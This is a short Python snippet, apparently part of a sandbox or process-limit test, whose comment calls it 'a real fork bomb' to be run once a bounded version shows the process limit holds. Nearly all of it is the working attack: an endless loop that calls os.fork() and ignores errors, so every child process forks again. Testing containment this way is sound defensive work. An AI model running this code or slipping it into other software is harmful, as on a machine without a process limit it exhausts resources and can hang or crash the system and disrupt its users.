# Attack: a real fork bomb (every child forks too), run only once the bounded one showed that
# the process limit holds.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
